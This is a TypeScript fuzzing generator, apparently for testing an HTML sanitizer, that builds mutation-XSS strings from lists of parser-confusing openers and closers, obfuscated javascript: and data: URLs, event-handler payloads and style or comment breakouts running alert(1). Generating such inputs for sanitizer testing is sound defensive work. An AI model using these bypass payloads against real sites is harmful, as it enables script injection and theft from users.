// Generates hostile HTML that parsers read in different ways: changed namespaces, moved elements, encoded attributes, odd blanks.
import fc from 'fast-check';

/** The script that each string tries to run. */
const SCRIPT = 'alert(1)';

/** Elements after which a browser reads the next ones by other rules. */
const OPENERS = [
  '<math>',
  '<math><mi>',
  '<math><mtext>',
  '<math><mtext><table><mglyph>',
  '<math><mtext><mglyph><malignmark>',
  '<math><annotation-xml>',
  '<math><annotation-xml encoding="text/html">',
  '<math><annotation-xml encoding="application/xhtml+xml">',
  '<svg>',
  '<svg><desc>',
  '<svg><title>',
  '<svg><foreignObject>',
  '<svg><style>',
  '<svg><script>',
  '<svg><![CDATA[',
  '<form>',
  '<form><math><mtext></form><form>',
  '<table>',
  '<table><tr>',
  '<table><caption>',
  '<table><colgroup>',
  '<select>',
  '<select><option>',
  '<select><template>',
  '<button>',
  '<a href="/">',
  '<a><table><a>',
  '<b><p>',
  '<p><font><div>',
  '<li><li>',
  '<pre>\n',
  '<noscript>',
  '<template>',
  '<style>',
  '<title>',
  '<textarea>',
  '<xmp>',
  '<iframe>',
  '<noembed>',
  '<noframes>',
  '<plaintext>',
  '<frameset>',
  '<head>',
  '<body>',
  '<!--',
  '<!-->',
  '<!--->',
  '<!DOCTYPE x [',
  '<?xml ',
  '</',
  '<p title="',
  "<p title='",
  '<p title=`',
];

const CLOSERS = [
  '</math>',
  '</mtext>',
  '</svg>',
  '</foreignObject>',
  '</desc>',
  '</style>',
  '</title>',
  '</script>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</select>',
  '</table>',
  '</form>',
  '</p>',
  '</br>',
  '</a>',
  '</xmp>',
  '-->',
  '--!>',
  ']]>',
  '"',
  "'",
  '`',
  '>',
];

const ADDRESSES = [
  `javascript:${SCRIPT}`,
  `JaVaScRiPt:${SCRIPT}`,
  `java\tscript:${SCRIPT}`,
  `java&NewLine;script&colon;${SCRIPT}`,
  `&#x6a&#x61;vascript&#58${SCRIPT}`,
  `&#0000106avascript:${SCRIPT}`,
  `\u0001javascript:${SCRIPT}`,
  `&nbsp;javascript:${SCRIPT}`,
  `javascript&#x3000;:${SCRIPT}`,
  `vbscript:${SCRIPT}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${SCRIPT}>`,
  `https://evil.example\\@own.example/`,
  `//evil.example/x`,
  `/\\evil.example/x`,
  `blob:https://evil.example/x`,
];

const BLANKS = [' ', '\n', '\t', '\f', '\r', '/', ' / ', '\u00a0', '\u0000', '\u000b', '  '];
const EQUALS = ['=', ' = ', '=\n', '=/**/'];
const EVENTS = ['onerror', 'ONERROR', 'onload', 'onfocus autofocus tabindex=1 onfocus', 'ontoggle', 'on\u0000error'];
const SOURCES = [
  'img src=x',
  'svg',
  'details open',
  'input',
  'video',
  'body',
  'audio src=x',
  'math',
  'iframe',
  'object data=x',
];

const quoted = fc.constantFrom<readonly [string, string]>(
  ['"', '"'],
  ["'", "'"],
  ['', ''],
  ['`', '`'],
  ['"', ''],
  ["'", '"'],
);

const handler = fc
  .tuple(
    fc.constantFrom(...SOURCES),
    fc.constantFrom(...BLANKS),
    fc.constantFrom(...EVENTS),
    fc.constantFrom(...EQUALS),
    quoted,
  )
  .map(
    ([source, blank, event, equals, [open, close]]) => `<${source}${blank}${event}${equals}${open}${SCRIPT}${close}>`,
  );

const link = fc
  .tuple(
    fc.constantFrom(
      'a href',
      'a\txlink:href',
      'form action',
      'img src',
      'use href',
      'iframe src',
      'base href',
      'a HREF=/ href',
    ),
    fc.constantFrom(...EQUALS),
    quoted,
    fc.constantFrom(...ADDRESSES),
  )
  .map(([attribute, equals, [open, close], address]) => `<${attribute}${equals}${open}${address}${close}>x`);

/** Hostile values of this product's own elements and attributes. */
const own = fc
  .tuple(
    fc.constantFrom(
      'data-id',
      'data-live',
      'data-filter',
      'data-mention',
      'data-language',
      'data-align',
      'dir',
      'width',
      'start',
    ),
    fc.constantFrom(...ADDRESSES, `"><img src=x onerror=${SCRIPT}>`, `&quot;&gt;&lt;img src=x onerror=${SCRIPT}&gt;`),
    fc.constantFrom('p', 'span', 'div', 'pre><code', 'ol', 'figure><img src=/api/files/x', 'li', 'td'),
  )
  .map(([attribute, value, element]) => `<${element} ${attribute}="${value}" ${attribute}='${value}'>`);

const styled = fc.constantFrom(
  `<style><img src="</style><img src=x onerror=${SCRIPT}>">`,
  `<style><!--</style><img src=x onerror=${SCRIPT}>--></style>`,
  `<title><img title="</title><img src=x onerror=${SCRIPT}>">`,
  `<a id="</style><img src=x onerror=${SCRIPT}>">`,
  `<mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${SCRIPT}&gt;">`,
  `<!--<a title="--><img src=x onerror=${SCRIPT}>">`,
  `<script>${SCRIPT}</script>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<script/x>${SCRIPT}</script\n>`,
  `<div style="background:url(//evil.example/x);x:expression(${SCRIPT})">`,
  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<img srcset="//evil.example/x 1x" src=//evil.example/y>`,
);

const payload = fc.oneof(handler, link, own, styled);

/** Writes the same markup in another way. */
const disguise = fc.constantFrom<(html: string) => string>(
  (html) => html,
  (html) => html,
  (html) => html,
  (html) => html.toUpperCase(),
  (html) => html.replaceAll('<', '<\u0000'),
  (html) => html.replaceAll(' ', '\f'),
  (html) => html.replaceAll('>', ' >'),
  (html) => html.replace(/>$/, ''),
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('"', '&quot;'),
);

const mutation = fc
  .tuple(
    fc.array(fc.constantFrom(...OPENERS), { minLength: 1, maxLength: 6 }),
    fc.array(fc.oneof(payload, fc.constantFrom(...CLOSERS), fc.constantFrom(...OPENERS)), {
      minLength: 1,
      maxLength: 6,
    }),
    payload,
    fc.array(fc.constantFrom(...CLOSERS), { maxLength: 4 }),
    disguise,
  )
  .map(([before, among, last, after, disguised]) => disguised([...before, ...among, last, ...after].join('')));

/** @returns the same strings for the same seed */
export function mutations(count: number, seed: number): string[] {
  return fc.sample(mutation, { numRuns: count, seed });
}
